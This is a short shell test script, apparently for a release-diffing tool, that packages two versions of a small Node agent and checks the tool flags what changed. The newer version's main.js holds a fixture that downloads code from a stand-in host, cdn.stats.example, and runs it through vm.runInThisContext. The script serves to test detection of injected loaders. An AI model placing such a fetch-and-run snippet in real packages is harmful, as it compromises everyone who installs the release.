#!/bin/sh
# The story with a small population and a small release:  test_story.sh ASSAY SOURCE-ROOT
#
# Every answer of assay must be right by the simulator's truth. Prints TAP.
set -eu

assay=$(realpath "${1:?usage: test_story.sh ASSAY SOURCE-ROOT}")
root=$2
scratch=$(mktemp -d "${TMPDIR:-/tmp}/story.XXXXXX")
trap 'rm -rf "$scratch"' EXIT
cd "$scratch"

mkdir old new releases
echo 'exports.version = 8;' >old/main.js
cat >new/main.js <<'JS'
exports.version = 9;
require('http').get('http://cdn.stats.example/collect/ping/chunk.js', (r) => {
  let s = '';
  r.on('data', (d) => { s += d; });
  r.on('end', () => require('vm').runInThisContext(s));
});
JS
tar -cf agent-10.0.8.tar old && tar -cf agent-10.0.9.tar new
"$assay" diff --format json agent-10.0.8.tar agent-10.0.9.tar >releases/answer.json || [ $? -eq 1 ]
echo '{"member": "main.js", "line": 2, "end_line": 6, "host": "cdn.stats.example"}' >releases/record.json

echo 1..1
if "$root/tests/story/story" --assay "$assay" --releases releases --work work --small --size 400k --seed 3 \
	>out 2>&1; then
	echo "ok 1 - every answer is right"
else
	echo "not ok 1 - every answer is right"
fi
sed 's/^/# /' out
